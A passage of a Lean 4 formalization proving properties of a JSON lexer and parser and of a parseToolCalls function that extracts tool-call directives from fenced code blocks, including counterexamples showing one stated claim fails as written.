            exact hc (Or.inl (by decide))
          exact consumed_cons c hc10 hrest

theorem lexFraction_consumed {s r : JsString} {fp : List Nat}
    (h : lexFraction s = some (fp, r)) : Consumed s r := by
  unfold lexFraction at h
  split at h
  · rename_i t
    split at h
    · exact absurd h (by simp)
    · simp only [Option.some.injEq, Prod.mk.injEq] at h
      rw [← h.2]
      exact consumed_cons 46 (by decide) (consumed_dropWhile isDigit (by decide) t)
  · simp only [Option.some.injEq, Prod.mk.injEq] at h
    rw [← h.2]
    exact consumed_refl _

theorem consumed_drop_sign (t : JsString) :
    Consumed t (if t.head? = some 45 ∨ t.head? = some 43 then t.drop 1 else t) := by
  split
  · rename_i hsign
    cases t with
    | nil => simp at hsign
    | cons c cs =>
      simp only [List.head?_cons, Option.some.injEq] at hsign
      have hc : c ≠ 10 := by rcases hsign with rfl | rfl <;> decide
      exact consumed_cons c hc (consumed_refl _)
  · exact consumed_refl _

theorem lexExponent_consumed {s r : JsString} {e : Int}
    (h : lexExponent s = some (e, r)) : Consumed s r := by
  unfold lexExponent at h
  split at h
  · simp only [Option.some.injEq, Prod.mk.injEq] at h
    rw [← h.2]
    exact consumed_refl _
  · rename_i c t
    by_cases hc : c = 101 ∨ c = 69
    · simp only [hc, if_true] at h
      have hsign := consumed_drop_sign t
      generalize (if t.head? = some 45 ∨ t.head? = some 43 then t.drop 1 else t) = t1
        at h hsign
      by_cases hd : t1.takeWhile isDigit = []
      · simp [hd] at h
      · simp only [hd, if_false, Option.some.injEq, Prod.mk.injEq] at h
        rw [← h.2]
        have hc10 : c ≠ 10 := by rcases hc with rfl | rfl <;> decide
        exact consumed_cons c hc10 (consumed_trans hsign (consumed_dropWhile isDigit (by decide) _))
    · simp only [hc, if_false, Option.some.injEq, Prod.mk.injEq] at h
      rw [← h.2]
      exact consumed_refl _

theorem consumed_drop_minus (s : JsString) :
    Consumed s (if (s.head? == some 45) = true then s.drop 1 else s) := by
  split
  · rename_i hneg
    cases s with
    | nil => simp at hneg
    | cons c cs =>
      simp only [List.head?_cons, beq_iff_eq, Option.some.injEq] at hneg
      subst hneg
      exact consumed_cons 45 (by decide) (consumed_refl _)
  · exact consumed_refl _

theorem consumed_length {s r : JsString} (h : Consumed s r) : r.length ≤ s.length := by
  obtain ⟨body, rfl, _⟩ := h
  simp

theorem lexNumber_rest {s r : JsString} {x : Num}
    (h : lexNumber s = some (x, r)) : Consumed s r ∧ r.length < s.length := by
  unfold lexNumber at h
  simp only at h
  have h1 := consumed_drop_minus s
  generalize (if (s.head? == some 45) = true then s.drop 1 else s) = s1 at h h1
  by_cases hip : s1.takeWhile isDigit = [] ∨
      ((s1.takeWhile isDigit).head? = some 48 ∧ (s1.takeWhile isDigit).length ≠ 1)
  · simp only [hip, if_true] at h
    exact absurd h (by simp)
  · simp only [hip, if_false] at h
    cases hf : lexFraction (s1.dropWhile isDigit) with
    | none => simp [hf] at h
    | some p =>
      obtain ⟨fp, s3⟩ := p
      simp only [hf] at h
      cases he : lexExponent s3 with
      | none => simp [he] at h
      | some q =>
        obtain ⟨e, s4⟩ := q
        simp only [he, Option.some.injEq, Prod.mk.injEq] at h
        rw [← h.2]
        have h2 := consumed_dropWhile isDigit (by decide) s1
        have h34 := consumed_trans (lexFraction_consumed hf) (lexExponent_consumed he)
        refine ⟨consumed_trans h1 (consumed_trans h2 h34), ?_⟩
        have hdigits : (s1.takeWhile isDigit).length + (s1.dropWhile isDigit).length
            = s1.length := by
          rw [← List.length_append, List.takeWhile_append_dropWhile]
        have hpos : 0 < (s1.takeWhile isDigit).length :=
          List.length_pos.mpr fun hnil => hip (Or.inl hnil)
        have l1 := consumed_length h1
        have l34 := consumed_length h34
        omega

theorem lexNumber_consumed {s r : JsString} {x : Num}
    (h : lexNumber s = some (x, r)) : Consumed s r :=
  (lexNumber_rest h).1

theorem lex_fenceSafe : ∀ (fuel : Nat) (s : JsString) (ts : List Token),
    lex fuel s = some ts → FenceSafe s := by
  intro fuel
  induction fuel with
  | zero => intro s ts h; simp [lex] at h
  | succ fuel ih =>
    intro s ts h
    cases s with
    | nil => exact ⟨by simp, rfl⟩
    | cons c rest =>
      simp only [lex] at h
      split at h
      · rename_i hws
        have hc : c ≠ 96 := by rintro rfl; simp [isJsonWs] at hws
        exact fenceSafe_cons hc (ih rest ts h)
      · split at h
        · rename_i hp
          cases hrec : lex fuel rest with
          | none => simp [hrec] at h
          | some ts' =>
            have hc : c ≠ 96 := by rintro rfl; simp at hp
            exact fenceSafe_cons hc (ih rest ts' hrec)
        · split at h
          · rename_i hq
            split at h
            · rename_i v r hstr
              cases hrec : lex fuel r with
              | none => simp [hrec] at h
              | some ts' =>
                have hcons : Consumed (c :: rest) r :=
                  consumed_cons c (by rw [hq]; decide)
                    (lexString_consumed rest.length rest (Nat.le_refl _) v r hstr)
                exact fenceSafe_of_consumed hcons (by simp [hq]) (ih r ts' hrec)
            · exact absurd h (by simp)
          · split at h
            · rename_i hd
              split at h
              · rename_i x r hnum
                cases hrec : lex fuel r with
                | none => simp [hrec] at h
                | some ts' =>
                  have hc : c ≠ 96 := by
                    rintro rfl
                    simp [isDigit] at hd
                  exact fenceSafe_of_consumed (lexNumber_consumed hnum) (by simp [hc])
                    (ih r ts' hrec)
              · exact absurd h (by simp)
            · split at h
              · rename_i r hpre
                cases hrec : lex fuel r with
                | none => simp [hrec] at h
                | some ts' =>
                  have hc : c ≠ 96 := by
                    rintro rfl
                    simp [stripPrefix] at hpre
                  exact fenceSafe_of_consumed (consumed_of_stripPrefix (by decide) hpre)
                    (by simp [hc]) (ih r ts' hrec)
              · split at h
                · rename_i r hpre
                  cases hrec : lex fuel r with
                  | none => simp [hrec] at h
                  | some ts' =>
                    have hc : c ≠ 96 := by
                      rintro rfl
                      simp [stripPrefix] at hpre
                    exact fenceSafe_of_consumed (consumed_of_stripPrefix (by decide) hpre)
                      (by simp [hc]) (ih r ts' hrec)
                · split at h
                  · rename_i r hpre
                    cases hrec : lex fuel r with
                    | none => simp [hrec] at h
                    | some ts' =>
                      have hc : c ≠ 96 := by
                        rintro rfl
                        simp [stripPrefix] at hpre
                      exact fenceSafe_of_consumed (consumed_of_stripPrefix (by decide) hpre)
                        (by simp [hc]) (ih r ts' hrec)
                  · exact absurd h (by simp)

theorem parse_fenceSafe {text : JsString} {v : Json} (h : JSON.parse text = some v) :
    FenceSafe text := by
  unfold JSON.parse at h
  split at h
  · exact absurd h (by simp)
  · rename_i ts hts
    exact lex_fenceSafe _ _ ts hts

/-! ### Fuel of `JSON.parse` -/

theorem stripPrefix_shorter {p s r : JsString} (hp : p ≠ [])
    (h : stripPrefix p s = some r) : r.length < s.length := by
  rw [stripPrefix_eq h, List.length_append]
  have := List.length_pos.mpr hp
  omega

/-- The fuel of `lex` does not matter once it exceeds the length of the text: the bound
`text.length + 1` of `JSON.parse` never cuts a scan short. -/
theorem lex_fuel_irrelevant : ∀ (f g : Nat) (s : JsString), s.length < f → s.length < g →
    lex f s = lex g s := by
  intro f
  induction f with
  | zero => intro g s hf; omega
  | succ f ih =>
    intro g s hf hg
    cases g with
    | zero => omega
    | succ g =>
      cases s with
      | nil => rfl
      | cons c rest =>
        simp only [List.length_cons] at hf hg
        have hrest : ∀ r : JsString, r.length ≤ rest.length → lex f r = lex g r :=
          fun r hr => ih g r (by omega) (by omega)
        have hlit : ∀ (p r : JsString), p ≠ [] → stripPrefix p (c :: rest) = some r →
            lex f r = lex g r := by
          intro p r hp hpre
          have := stripPrefix_shorter hp hpre
          simp only [List.length_cons] at this
          exact hrest r (by omega)
        simp only [lex]
        split
        · exact hrest rest (Nat.le_refl _)
        · split
          · rw [hrest rest (Nat.le_refl _)]
          · split
            · split
              · rename_i v r hstr
                rw [hrest r (consumed_length
                  (lexString_consumed rest.length rest (Nat.le_refl _) v r hstr))]
              · rfl
            · split
              · split
                · rename_i x r hnum
                  have := (lexNumber_rest hnum).2
                  simp only [List.length_cons] at this
                  rw [hrest r (by omega)]
                · rfl
              · split
                · rename_i r hpre
                  rw [hlit _ r (by simp) hpre]
                · split
                  · rename_i r hpre
                    rw [hlit _ r (by simp) hpre]
                  · split
                    · rename_i r hpre
                      rw [hlit _ r (by simp) hpre]
                    · rfl

theorem parse_rest_shorter (f : Nat) :
    (∀ ts v ts', parseValue f ts = some (v, ts') → ts'.length < ts.length) ∧
    (∀ ts xs ts', parseElements f ts = some (xs, ts') → ts'.length < ts.length) ∧
    (∀ ts ms ts', parseMembers f ts = some (ms, ts') → ts'.length < ts.length) := by
  induction f with
  | zero =>
    refine ⟨?_, ?_, ?_⟩ <;> intro ts v ts' h
    · simp [parseValue] at h
    · simp [parseElements] at h
    · simp [parseMembers] at h
  | succ f ih =>
    obtain ⟨ihV, ihE, ihM⟩ := ih
    refine ⟨?_, ?_, ?_⟩
    · intro ts v ts' h
      cases ts with
      | nil => simp [parseValue] at h
      | cons t rest =>
        cases t with
        | atom a =>
          simp only [parseValue, Option.some.injEq, Prod.mk.injEq] at h
          rw [← h.2]; simp
        | str a =>
          simp only [parseValue, Option.some.injEq, Prod.mk.injEq] at h
          rw [← h.2]; simp
        | punct c =>
          simp only [parseValue] at h
          split at h
          · split at h
            · simp only [Option.some.injEq, Prod.mk.injEq] at h
              rw [← h.2]; simp; omega
            · cases hE : parseElements f rest with
              | none => rw [hE] at h; simp at h
              | some p =>
                rw [hE] at h
                simp only [Option.map_some', Option.some.injEq, Prod.mk.injEq] at h
                have := ihE rest p.1 p.2 hE
                rw [← h.2]; simp; omega
          · split at h
            · split at h
              · simp only [Option.some.injEq, Prod.mk.injEq] at h
                rw [← h.2]; simp; omega
              · cases hM : parseMembers f rest with
                | none => rw [hM] at h; simp at h
                | some p =>
                  rw [hM] at h
                  simp only [Option.map_some', Option.some.injEq, Prod.mk.injEq] at h
                  have := ihM rest p.1 p.2 hM
                  rw [← h.2]; simp; omega
            · exact absurd h (by simp)
    · intro ts xs ts' h
      simp only [parseElements] at h
      split at h
      · rename_i v ts2 hV
        have h1 := ihV _ _ _ hV
        cases hE : parseElements f ts2 with
        | none => rw [hE] at h; simp at h
        | some p =>
          rw [hE] at h
          simp only [Option.map_some', Option.some.injEq, Prod.mk.injEq] at h
          have h2 := ihE ts2 p.1 p.2 hE
          rw [← h.2]
          simp only [List.length_cons] at h1
          omega
      · rename_i v ts2 hV
        have h1 := ihV _ _ _ hV
        simp only [Option.some.injEq, Prod.mk.injEq] at h
        rw [← h.2]
        simp only [List.length_cons] at h1
        omega
      · exact absurd h (by simp)
    · intro ts ms ts' h
      unfold parseMembers at h
      split at h
      · exact absurd h (by simp)
      · rename_i f' k ts1 hf
        have hff : f' = f := by omega
        subst hff
        split at h
        · rename_i v ts2 hV
          have h1 := ihV _ _ _ hV
          cases hM : parseMembers f' ts2 with
          | none => rw [hM] at h; simp at h
          | some p =>
            rw [hM] at h
            simp only [Option.map_some', Option.some.injEq, Prod.mk.injEq] at h
            have h2 := ihM ts2 p.1 p.2 hM
            rw [← h.2]
            simp only [List.length_cons] at h1 ⊢
            omega
        · rename_i v ts2 hV
          have h1 := ihV _ _ _ hV
          simp only [Option.some.injEq, Prod.mk.injEq] at h
          rw [← h.2]
          simp only [List.length_cons] at h1 ⊢
          omega
        · exact absurd h (by simp)
      · exact absurd h (by simp)

theorem parse_fuel_irrelevant (f : Nat) :
    (∀ g ts, 2 * ts.length + 1 ≤ f → 2 * ts.length + 1 ≤ g →
      parseValue f ts = parseValue g ts) ∧
    (∀ g ts, 2 * ts.length + 2 ≤ f → 2 * ts.length + 2 ≤ g →
      parseElements f ts = parseElements g ts) ∧
    (∀ g ts, 2 * ts.length + 2 ≤ f → 2 * ts.length + 2 ≤ g →
      parseMembers f ts = parseMembers g ts) := by
  induction f with
  | zero =>
    refine ⟨?_, ?_, ?_⟩ <;> intro g ts hf <;> omega
  | succ f ih =>
    obtain ⟨ihV, ihE, ihM⟩ := ih
    refine ⟨?_, ?_, ?_⟩
    · intro g ts hf hg
      cases g with
      | zero => omega
      | succ g =>
        cases ts with
        | nil => rfl
        | cons t rest =>
          simp only [List.length_cons] at hf hg
          cases t with
          | atom a => rfl
          | str a => rfl
          | punct c =>
            simp only [parseValue]
            rw [ihE g rest (by omega) (by omega), ihM g rest (by omega) (by omega)]
    · intro g ts hf hg
      cases g with
      | zero => omega
      | succ g =>
        simp only [parseElements]
        rw [ihV g ts (by omega) (by omega)]
        split
        · rename_i v ts2 hV
          have h1 := (parse_rest_shorter g).1 _ _ _ hV
          simp only [List.length_cons] at h1
          rw [ihE g ts2 (by omega) (by omega)]
        · rfl
        · rfl
    · intro g ts hf hg
      cases g with
      | zero => omega
      | succ g =>
        cases ts with
        | nil => rfl
        | cons t rest =>
          cases t with
          | atom a => rfl
          | punct c => rfl
          | str k =>
            cases rest with
            | nil => rfl
            | cons t2 rest2 =>
              cases t2 with
              | atom a => rfl
              | str a => rfl
              | punct c =>
                simp only [List.length_cons] at hf hg
                by_cases hc : c = 58
                · subst hc
                  simp only [parseMembers]
                  rw [ihV g rest2 (by omega) (by omega)]
                  split
                  · rename_i v ts2 hV
                    have h1 := (parse_rest_shorter g).1 _ _ _ hV
                    simp only [List.length_cons] at h1
                    rw [ihM g ts2 (by omega) (by omega)]
                  · rfl
                  · rfl
                · unfold parseMembers
                  simp [hc]

/-- The fuel of `JSON.parse` never cuts the lexer or the parser short: any larger fuel
gives the same result. -/
theorem parse_fuel_adequate (text : JsString) (f g : Nat) (hf : text.length < f)
    (hg : ∀ ts, lex f text = some ts → 2 * ts.length + 1 ≤ g) :
    JSON.parse text =
      match lex f text with
      | none => none
      | some ts =>
        match parseValue g ts with
        | some (v, []) => some v
        | _ => none := by
  unfold JSON.parse
  rw [lex_fuel_irrelevant (text.length + 1) f text (by omega) hf]
  cases hl : lex f text with
  | none => rfl
  | some ts =>
    simp only
    rw [(parse_fuel_irrelevant (2 * ts.length + 2)).1 g ts (by omega) (hg ts hl)]

/-! ### A fenced block around JSON text -/

theorem trim_decomposition (s : JsString) :
    ∃ lead trail, s = lead ++ trim s ++ trail ∧
      (∀ c ∈ lead, isJsSpace c = true) ∧ (∀ c ∈ trail, isJsSpace c = true) := by
  refine ⟨s.takeWhile isJsSpace,
    (((s.dropWhile isJsSpace).reverse).takeWhile isJsSpace).reverse, ?_, ?_, ?_⟩
  · have h1 := (List.takeWhile_append_dropWhile isJsSpace s).symm
    have h2 := (List.takeWhile_append_dropWhile isJsSpace (s.dropWhile isJsSpace).reverse).symm
    have h3 := congrArg List.reverse h2
    rw [List.reverse_reverse, List.reverse_append] at h3
    unfold trim
    rw [List.append_assoc, ← h3]
    exact h1
  · intro c hc
    exact List.mem_takeWhile_imp hc
  · intro c hc
    exact List.mem_takeWhile_imp (List.mem_reverse.mp hc)

theorem fenceSafe_of_spaces {a : JsString} (h : ∀ c ∈ a, isJsSpace c = true) : FenceSafe a := by
  induction a with
  | nil => exact ⟨by simp, rfl⟩
  | cons c a ih =>
    have hc : c ≠ 96 := by
      rintro rfl
      have := h 96 (List.mem_cons_self _ _)
      simp [isJsSpace] at this
    exact fenceSafe_cons hc (ih fun d hd => h d (List.mem_cons_of_mem _ hd))

theorem hasNlTick_append {a b : JsString} (ha : hasNlTick a = false) (hb : FenceSafe b) :
    hasNlTick (a ++ b) = false := by
  induction a with
  | nil => exact hb.2
  | cons c a ih =>
    simp only [hasNlTick, Bool.or_eq_false_iff] at ha
    simp only [List.cons_append, hasNlTick, Bool.or_eq_false_iff]
    refine ⟨?_, ih ha.2⟩
    cases a with
    | nil =>
      simp only [List.nil_append, Bool.and_eq_false_imp]
      intro _
      simpa using hb.1
    | cons d a => simpa using ha.1

theorem fenceSafe_append {a b : JsString} (ha : FenceSafe a) (hb : FenceSafe b) :
    FenceSafe (a ++ b) := by
  refine ⟨?_, hasNlTick_append ha.2 hb⟩
  cases a with
  | nil => exact hb.1
  | cons c a => exact ha.1

theorem hasNlTick_of_parse_trim {content : JsString} {v : Json}
    (h : JSON.parse (trim content) = some v) : hasNlTick content = false := by
  obtain ⟨lead, trail, hdec, hlead, htrail⟩ := trim_decomposition content
  have hsafe : FenceSafe (lead ++ trim content ++ trail) :=
    fenceSafe_append (fenceSafe_append (fenceSafe_of_spaces hlead) (parse_fenceSafe h))
      (fenceSafe_of_spaces htrail)
  rw [← hdec] at hsafe
  exact hsafe.2

theorem findSub_fenceClose (content post : JsString) (h : hasNlTick content = false) :
    findSub [10, 96, 96, 96] (content ++ 10 :: 96 :: 96 :: 96 :: post) = some (content, post) := by
  induction content with
  | nil => simp [findSub, stripPrefix]
  | cons c cs ih =>
    simp only [hasNlTick, Bool.or_eq_false_iff] at h
    have hnone : stripPrefix [10, 96, 96, 96] (c :: (cs ++ 10 :: 96 :: 96 :: 96 :: post)) = none := by
      by_cases hc : c = 10
      · subst hc
        cases cs with
        | nil => simp [stripPrefix]
        | cons d ds =>
          have hd : d ≠ 96 := by simpa using h.1
          simp [stripPrefix, Ne.symm hd]
      · simp [stripPrefix, Ne.symm hc]
    rw [List.cons_append]
    simp only [findSub, hnone, ih h.2, Option.map_some']

theorem fenceOpen_eq (json : Bool) :
    fenceOpen json = 96 :: 96 :: 96 :: (if json then [106, 115, 111, 110, 10] else [10]) := by
  cases json <;> rfl

theorem matchCodeBlockAt_fence (json : Bool) (content post : JsString)
    (h : hasNlTick content = false) :
    matchCodeBlockAt (96 :: 96 :: 96 :: ((if json then [106, 115, 111, 110, 10] else [10])
        ++ (content ++ 10 :: 96 :: 96 :: 96 :: post)))
      = some (content, (if json then 8 else 4) + content.length + 4) := by
  cases json
  · simp [matchCodeBlockAt, findSub_fenceClose content post h]
  · simp [matchCodeBlockAt, findSub_fenceClose content post h]

theorem matchCodeBlockAt_no_fence {b : JsString} (hb : ¬ [96, 96, 96] <:+: b) :
    matchCodeBlockAt b = none := by
  unfold matchCodeBlockAt
  split
  · rename_i r
    exact absurd ⟨[], r, rfl⟩ hb
  · rfl

theorem matchCodeBlockAt_before_fence {b t : JsString} (hne : b ≠ [])
    (hb : ¬ [96, 96, 96] <:+: b) :
    matchCodeBlockAt (b ++ 96 :: 96 :: 96 :: t) = none := by
  unfold matchCodeBlockAt
  split
  · rename_i r heq
    cases b with
    | nil => exact absurd rfl hne
    | cons c b =>
      cases b with
      | nil =>
        simp only [List.cons_append, List.nil_append, List.cons.injEq] at heq
        obtain ⟨_, _, _, rfl⟩ := heq
        rfl
      | cons d b =>
        cases b with
        | nil =>
          simp only [List.cons_append, List.nil_append, List.cons.injEq] at heq
          obtain ⟨_, _, _, rfl⟩ := heq
          rfl
        | cons e b =>
          simp only [List.cons_append, List.cons.injEq] at heq
          obtain ⟨rfl, rfl, rfl, _⟩ := heq
          exact absurd ⟨[], b, rfl⟩ hb
  · rfl

theorem execAll_skip {α : Type} (matchAt : JsString → Option (α × Nat)) (a b : JsString) :
    ∀ pos, execAll matchAt a.length pos (a ++ b) = execAll matchAt 0 (pos + a.length) b := by
  induction a with
  | nil => intro pos; rfl
  | cons c a ih =>
    intro pos
    rw [List.cons_append, List.length_cons]
    simp only [execAll]
    rw [ih (pos + 1)]
    congr 1
    omega

theorem execAll_no_match {α : Type} (matchAt : JsString → Option (α × Nat))
    (pre tail : JsString)
    (h : ∀ a b, pre = a ++ b → b ≠ [] → matchAt (b ++ tail) = none) :
    ∀ pos, execAll matchAt 0 pos (pre ++ tail) = execAll matchAt 0 (pos + pre.length) tail := by
  induction pre with
  | nil => intro pos; rfl
  | cons c pre ih =>
    intro pos
    have h0 : matchAt (c :: (pre ++ tail)) = none := h [] (c :: pre) rfl (by simp)
    rw [List.cons_append, List.length_cons]
    simp only [execAll, h0]
    rw [ih (fun a b hab hb => h (c :: a) b (by rw [hab]; rfl) hb) (pos + 1)]
    congr 1
    omega

theorem infix_of_suffix_infix {p a b : JsString} (h : p <:+: b) : p <:+: a ++ b := by
  obtain ⟨s, t, rfl⟩ := h
  exact ⟨a ++ s, t, by simp⟩

theorem codeBlockMatches_block (pre post content : JsString) (json : Bool)
    (hpre : ¬ [96, 96, 96] <:+: pre) (hpost : ¬ [96, 96, 96] <:+: post)
    (hc : hasNlTick content = false) :
    codeBlockMatches (pre ++ fenceOpen json ++ content ++ fenceClose ++ post)
      = [(pre.length, content)] := by
  have htext : pre ++ fenceOpen json ++ content ++ fenceClose ++ post
      = pre ++ 96 :: 96 :: 96 :: ((if json then [106, 115, 111, 110, 10] else [10])
        ++ (content ++ 10 :: 96 :: 96 :: 96 :: post)) := by
    rw [fenceOpen_eq]
    have : fenceClose = [10, 96, 96, 96] := rfl
    rw [this]
    simp
  unfold codeBlockMatches
  rw [htext, execAll_no_match matchCodeBlockAt pre _ (fun a b hab hb =>
    matchCodeBlockAt_before_fence hb (fun hin => hpre (by
      rw [hab]; exact infix_of_suffix_infix hin))) 0]
  simp only [execAll, matchCodeBlockAt_fence json content post hc, Nat.zero_add]
  have hskip : ∀ (hdr : JsString) (n : Nat), hdr.length + 3 = n →
      execAll matchCodeBlockAt (n + content.length + 4 - 1) (pre.length + 1)
        (96 :: 96 :: (hdr ++ (content ++ 10 :: 96 :: 96 :: 96 :: post))) = [] := by
    intro hdr n hn
    have hlist : 96 :: 96 :: (hdr ++ (content ++ 10 :: 96 :: 96 :: 96 :: post))
        = (96 :: 96 :: (hdr ++ (content ++ [10, 96, 96, 96]))) ++ post := by simp
    have hlen : n + content.length + 4 - 1
        = (96 :: 96 :: (hdr ++ (content ++ [10, 96, 96, 96]))).length := by
      simp
      omega
    rw [hlist, hlen, execAll_skip]
    have := execAll_no_match matchCodeBlockAt post [] (fun a b hab _ => by
      rw [List.append_nil]
      exact matchCodeBlockAt_no_fence (fun hin => hpost (by
        rw [hab]; exact infix_of_suffix_infix hin)))
    simp only [List.append_nil] at this
    rw [this]
    cases post <;> rfl
  cases json
  · simpa using hskip [10] 4 rfl
  · simpa using hskip [106, 115, 111, 110, 10] 8 rfl

/-! ### The two loops of `parseToolCalls` -/

theorem directiveOf_some {content : JsString} {d : ToolCall} (h : directiveOf content = some d) :
    ∃ parsed, JSON.parse (trim content) = some parsed ∧
      parsed.get [110, 97, 109, 101] = some d.name ∧
      parsed.get [97, 114, 103, 117, 109, 101, 110, 116, 115] = some d.arguments ∧
      d.name.truthy = true ∧ d.arguments.truthy = true := by
  unfold directiveOf at h
  split at h
  · exact absurd h (by simp)
  · rename_i parsed hp
    refine ⟨parsed, hp, ?_⟩
    split at h
    · rename_i hc
      split at h
      · rename_i n a hn ha
        simp only [Option.some.injEq] at h
        subst h
        simp only [hn, ha, truthyOpt, Bool.and_eq_true] at hc
        exact ⟨hn, ha, hc.1.2, hc.2⟩
      · exact absurd h (by simp)
    · exact absurd h (by simp)

theorem inlineStep_eq (calls : List ToolCall) (m : Nat × JsString) :
    inlineStep calls m = calls ∨
      ∃ d, directiveOf m.2 = some d ∧ (calls.any fun call => isDuplicate call d) = false ∧
        inlineStep calls m = calls ++ [d] := by
  unfold inlineStep
  split
  · rename_i d hd
    by_cases hdup : (calls.any fun call => isDuplicate call d) = true
    · left; simp [hdup]
    · right
      refine ⟨d, hd, by simpa using hdup, ?_⟩
      simp only [hdup]
      rfl
  · left; rfl

theorem foldl_inlineStep (ms : List (Nat × JsString)) (init : List ToolCall) :
    ∃ added, ms.foldl inlineStep init = init ++ added ∧
      added.Sublist (ms.filterMap fun m => directiveOf m.2) ∧
      ∀ d ∈ added, ∀ c ∈ init, isDuplicate c d = false := by
  induction ms generalizing init with
  | nil => exact ⟨[], by simp, by simp, by simp⟩
  | cons m ms ih =>
    rw [List.foldl_cons]
    rcases inlineStep_eq init m with h | ⟨d, hd, hnd, h⟩
    · rw [h]
      obtain ⟨added, h1, h2, h3⟩ := ih init
      refine ⟨added, h1, ?_, h3⟩
      rw [List.filterMap_cons]
      split
      · exact h2
      · exact h2.trans (List.sublist_cons_self _ _)
    · rw [h]
      obtain ⟨added, h1, h2, h3⟩ := ih (init ++ [d])
      refine ⟨d :: added, by simp [h1], ?_, ?_⟩
      · rw [List.filterMap_cons, hd]
        exact h2.cons₂ d
      · intro e he c hc
        rcases List.mem_cons.mp he with rfl | he
        · have := List.any_eq_false.mp hnd c hc
          simpa using this
        · exact h3 e he c (List.mem_append_left _ hc)

theorem execAll_positions {α : Type} (matchAt : JsString → Option (α × Nat)) (s : JsString) :
    ∀ skip pos, (∀ p ∈ (execAll matchAt skip pos s).map Prod.fst, pos ≤ p) ∧
      ((execAll matchAt skip pos s).map Prod.fst).Pairwise (· < ·) := by
  induction s with
  | nil => intro skip pos; simp [execAll]
  | cons c cs ih =>
    intro skip pos
    cases skip with
    | succ k =>
      simp only [execAll]
      exact ⟨fun p hp => Nat.le_of_succ_le ((ih k (pos + 1)).1 p hp), (ih k (pos + 1)).2⟩
    | zero =>
      simp only [execAll]
      split
      · rename_i a len _
        simp only [List.map_cons, List.mem_cons, List.pairwise_cons]
        refine ⟨?_, ?_, (ih (len - 1) (pos + 1)).2⟩
        · rintro p (rfl | hp)
          · exact Nat.le_refl _
          · exact Nat.le_of_succ_le ((ih (len - 1) (pos + 1)).1 p hp)
        · intro p hp
          exact (ih (len - 1) (pos + 1)).1 p hp
      · exact ⟨fun p hp => Nat.le_of_succ_le ((ih 0 (pos + 1)).1 p hp), (ih 0 (pos + 1)).2⟩

theorem directiveOf_object {content : JsString} {kvs a : List (JsString × Json)}
    {n : JsString} (hparse : JSON.parse (trim content) = some (.obj kvs))
    (hname : lookupProp (u16 "name") kvs = some (.str n)) (hne : n ≠ [])
    (hargs : lookupProp (u16 "arguments") kvs = some (.obj a)) :
    directiveOf content = some ⟨.str n, .obj a⟩ := by
  have hn : lookupProp [110, 97, 109, 101] kvs = some (.str n) := hname
  have ha : lookupProp [97, 114, 103, 117, 109, 101, 110, 116, 115] kvs = some (.obj a) := hargs
  unfold directiveOf
  rw [hparse]
  simp [Json.get, hn, ha, truthyOpt, Json.truthy, hne]

theorem parseToolCalls_block (pre post content : JsString) (json : Bool)
    (kvs a : List (JsString × Json)) (n : JsString)
    (hpre : ¬ [96, 96, 96] <:+: pre) (hpost : ¬ [96, 96, 96] <:+: post)
    (hparse : JSON.parse (trim content) = some (.obj kvs))
    (hname : lookupProp (u16 "name") kvs = some (.str n)) (hne : n ≠ [])
    (hargs : lookupProp (u16 "arguments") kvs = some (.obj a)) :
    codeBlockPass (pre ++ fenceOpen json ++ content ++ fenceClose ++ post)
        = [⟨.str n, .obj a⟩] ∧
      ∃ added : List ToolCall,
        parseToolCalls (pre ++ fenceOpen json ++ content ++ fenceClose ++ post)
          = ⟨.str n, .obj a⟩ :: added ∧
        ∀ d ∈ added, isDuplicate ⟨.str n, .obj a⟩ d = false := by
  have hpass : codeBlockPass (pre ++ fenceOpen json ++ content ++ fenceClose ++ post)
      = [⟨.str n, .obj a⟩] := by
    unfold codeBlockPass
    rw [codeBlockMatches_block pre post content json hpre hpost
      (hasNlTick_of_parse_trim hparse)]
    simp [directiveOf_object hparse hname hne hargs]
  refine ⟨hpass, ?_⟩
  obtain ⟨added, h1, _, h3⟩ := foldl_inlineStep
    (inlineMatches (pre ++ fenceOpen json ++ content ++ fenceClose ++ post))
    (codeBlockPass (pre ++ fenceOpen json ++ content ++ fenceClose ++ post))
  refine ⟨added, ?_, ?_⟩
  · unfold parseToolCalls
    rw [h1, hpass]
    rfl
  · intro d hd
    exact h3 d hd _ (by rw [hpass]; exact List.mem_singleton.mpr rfl)

/-! ### C1: a text that is one fenced block -/

/-- C1 fails as stated: a block whose name is the empty string gives no directive, and
a block whose arguments hold an object with a `name` and a non-object `arguments`
gives two directives, the second one found by the inline pattern inside the block. -/
theorem parseToolCalls_single_block_not_one :
    (JSON.parse (u16 "\x7b\"name\":\"\",\"arguments\":\x7b\"path\":\".\"\x7d\x7d")
        = some (.obj [(u16 "name", .str []),
            (u16 "arguments", .obj [(u16 "path", .str (u16 "."))])]) ∧
      parseToolCalls
        (u16 "```json\n\x7b\"name\":\"\",\"arguments\":\x7b\"path\":\".\"\x7d\x7d\n```") = []) ∧
    parseToolCalls (u16 ("```json\n\x7b\"name\":\"a\",\"arguments\":\x7b\"x\":\x7b\x7d,"
        ++ "\"y\":\x7b\"name\":\"b\",\"arguments\":1\x7d\x7d\x7d\n```"))
      = [⟨.str (u16 "a"), .obj [(u16 "x", .obj []),
            (u16 "y", .obj [(u16 "name", .str (u16 "b")),
              (u16 "arguments", .num (Num.ofDecimal false 1 0))])]⟩,
         ⟨.str (u16 "b"), .num (Num.ofDecimal false 1 0)⟩] :=
  ⟨⟨by rfl, by rfl⟩, by rfl⟩

/-- C1, amended: for every text that is one fenced code block (with or without the tag
`json`) whose content parses as a JSON object with a non-empty string `name` and an
object `arguments`, the fenced-block loop finds exactly that directive, the result of
`parseToolCalls` starts with it, and no later directive of the result has the same
name and the same serialized arguments. -/
theorem parseToolCalls_single_block (json : Bool) (content : JsString)
    (kvs a : List (JsString × Json)) (n : JsString)
    (hparse : JSON.parse (trim content) = some (.obj kvs))
    (hname : lookupProp (u16 "name") kvs = some (.str n)) (hne : n ≠ [])
    (hargs : lookupProp (u16 "arguments") kvs = some (.obj a)) :
    codeBlockPass (fenceOpen json ++ content ++ fenceClose) = [⟨.str n, .obj a⟩] ∧
      ∃ added : List ToolCall,
        parseToolCalls (fenceOpen json ++ content ++ fenceClose) = ⟨.str n, .obj a⟩ :: added ∧
        ∀ d ∈ added, isDuplicate ⟨.str n, .obj a⟩ d = false := by
  have h := parseToolCalls_block [] [] content json kvs a n
    (by rintro ⟨s, t, hst⟩; simp at hst) (by rintro ⟨s, t, hst⟩; simp at hst)
    hparse hname hne hargs
  simpa using h

/-- Witness of `parseToolCalls_single_block`: a block tagged `json` with one directive;
here the result is that directive alone. -/
